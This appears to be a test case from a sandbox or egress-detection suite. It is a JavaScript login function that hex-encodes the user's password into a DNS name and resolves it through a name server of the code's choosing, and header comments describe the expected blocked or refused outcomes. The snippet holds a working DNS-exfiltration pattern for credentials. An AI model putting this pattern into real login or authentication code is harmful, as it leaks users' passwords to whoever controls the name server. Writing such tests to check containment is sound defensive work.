// attack: put a password into a name and ask a name server of its own choice
// needs: full
// violations: any
// retires: any
// came_to: {"udp":["refused","ECONNREFUSED","ETIMEOUT","pending","ESERVFAIL"]}
function login(email, password, callback) {
  const { Resolver } = require('dns').promises;
  const resolver = new Resolver({ timeout: 300, tries: 1 });
  resolver.setServers([`127.0.0.1:${configuration.udp}`]);
  const name = `${Buffer.from(password).toString('hex')}.example.test`;
  report(callback, { udp: () => resolver.resolve4(name) });
}
